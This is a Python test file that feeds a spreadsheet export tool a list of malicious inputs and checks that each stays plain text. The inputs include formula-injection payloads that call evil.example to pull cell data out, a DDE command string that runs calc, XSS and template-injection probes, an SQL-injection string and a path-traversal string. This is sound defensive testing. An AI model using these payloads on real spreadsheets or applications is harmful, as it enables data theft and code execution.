"""What is typed with bad intent is shown as typed: no formula, no link, no markup, in no place the machine writes."""

from __future__ import annotations

from itertools import product
from typing import Any

import pytest

from books import SHEETS, GroupBook, group_three

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "'=", " =", "＝", "=+", "\n=", "''")
BODIES = (
    'IMPORTXML("http://evil.example/?"&A1;"//a")', 'HYPERLINK("http://evil.example";"Bấm vào đây")', "1+1", "SUM(1;2)",
    'IMAGE("http://evil.example/x.png")', "cmd|' /C calc'!A0", "A1", 'INDIRECT("_toso!A1")',
)  # fmt: skip
OTHERS = (
    "http://evil.example/x", "https://evil.example", "mailto:a@evil.example", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<b>đậm</b>", "&lt;b&gt;", "{{ 7*7 }}", "{% for x in y %}", "{{ config }}", "${7*7}", "#{7*7}", "#import \"x.typ\"", "#eval(\"1\")",
    "$x$ #link(\"http://evil\")", "[bấm](http://evil.example)", "{value}", "{0}", "{title!r}", "%s%n", "|guided_on|persons|", "⚠ giả",
    "✓", "đã sửa, chờ kiểm tra", "\u2060∅", "|", "||", "\"", "'", "''", "\\", "\u202eđảo", "\x00"[:0] + "không", "1e999", "NaN", "TRUE", "#REF!",
    "🙂" * 40, "x" * 400, "Robert'); DROP TABLE ho;--", "../../etc/passwd", "=" , "==", "'=1+1", "\ufeff=1+1", "0042", "1/2", "12/10", "1.234",
)  # fmt: skip
PAYLOADS = [start + body for start, body in product(STARTS, BODIES)] + [
    *OTHERS,
    *(text + " " for text in OTHERS),
    *("a" + text for text in OTHERS),
]
KINDS = ("head_name", "guided_on", "guided_how", "vneid_level2", "persons", "phone", "note", "explanation")


def test_there_are_at_least_200_of_them() -> None:
    assert len(set(PAYLOADS)) >= 200


def typed(book: GroupBook, insert: bool) -> list[tuple[int, str, str]]:
    """Each payload in a cell of another kind, as raw text; (row, field, payload)."""
    if insert:
        book.does({"insertDimension": {"range": book.span("households", "ROWS", 1), "inheritFromBefore": False}})
    tab = book.state().tabs["households"]
    found = [(2 + n // 2, KINDS[(n + n // 8) % len(KINDS)], text) for n, text in enumerate(PAYLOADS)]
    requests = [
        {"updateCells": {
            "start": {"sheetId": tab.sheet_id, "rowIndex": row, "columnIndex": tab.columns[name]},
            "rows": [{"values": [{"userEnteredValue": {"stringValue": text}}]}], "fields": "userEnteredValue",
        }}
        for row, name, text in found
    ]  # fmt: skip
    if insert:
        requests += [{"updateCells": {
            "start": {"sheetId": tab.sheet_id, "rowIndex": 1, "columnIndex": tab.columns[name]},
            "rows": [{"values": [{"userEnteredValue": {"stringValue": text}}]}], "fields": "userEnteredValue",
        }} for name, text in (("household_code", "TDP03-9999"), ("persons", "=1+1"))]  # fmt: skip
    book.does(*requests)
    return found


def cells(book: GroupBook, title: str) -> list[dict[str, Any]]:
    fields = "sheets.data.rowData.values(userEnteredValue,effectiveValue,formattedValue,hyperlink,textFormatRuns,effectiveFormat.hyperlinkDisplayType)"
    answer = book.eye.session.http.send(
        "get", f"{SHEETS}/{book.book_id}", repeatable=True, params={"ranges": f"'{title}'", "fields": fields}
    ).json()
    return [cell for line in answer["sheets"][0]["data"][0].get("rowData", []) for cell in line.get("values", [])]


@pytest.mark.parametrize("insert", [False, True], ids=["as cells", "with formulas put back"])
def test_whatever_is_typed_stays_text_wherever_it_is_repeated(insert: bool) -> None:
    book = GroupBook(facts=group_three(households=140))
    placed = typed(book, insert)
    before = book.people_cells()
    found, writes = book.check()
    assert writes == 1
    assert book.people_cells() == before

    tab = book.state().tabs["households"]
    for row, name, text in placed:
        assert tab.value(row, tab.columns[name]) == text
    wrong = {(one.row, one.column): one for one in found.findings}
    said = [row for row in book.to_mend()]
    assert len(said) == len(found.findings)
    shown = {(row["key"], row["column"]): row["value"] for row in said}
    titles = {one.name: one.title for one in book.schema.tables["households"].fields}
    for row, name, text in placed:
        one = wrong.get((row + 1, name))
        if one is not None and one.value == text and (one.key, titles[name]) in shown:
            assert shown[one.key, titles[name]] in (
                text,
                text[:299].rstrip() + "…",
                "(không hiện)",
                text.strip(),
            )

    for title in ("Cần sửa", "Hướng dẫn"):
        for cell in cells(book, title):
            assert "formulaValue" not in cell.get("userEnteredValue", {}), cell
            assert (
                cell.get("effectiveFormat", {}).get("hyperlinkDisplayType", "PLAIN_TEXT") == "PLAIN_TEXT"
                or "hyperlink" not in cell
            )
    ours = ("=IF(IFERROR(INDEX(", "=IF($K$", "=IF(OR($L$")
    for cell in cells(book, "_toso"):
        formula = cell.get("userEnteredValue", {}).get("formulaValue", "")
        assert formula == "" or formula.startswith(ours), formula
        assert "evil" not in formula
    assert book.check()[1] == 0


def test_the_paint_finds_exactly_the_wrong_ones_among_them() -> None:
    book = GroupBook(facts=group_three(households=140))
    typed(book, False)
    found, _ = book.check()
    wanted = {(one.key, one.column) for one in found.findings if one.row}
    assert {(key, name) for key, name in book.painted("households") if key} == wanted
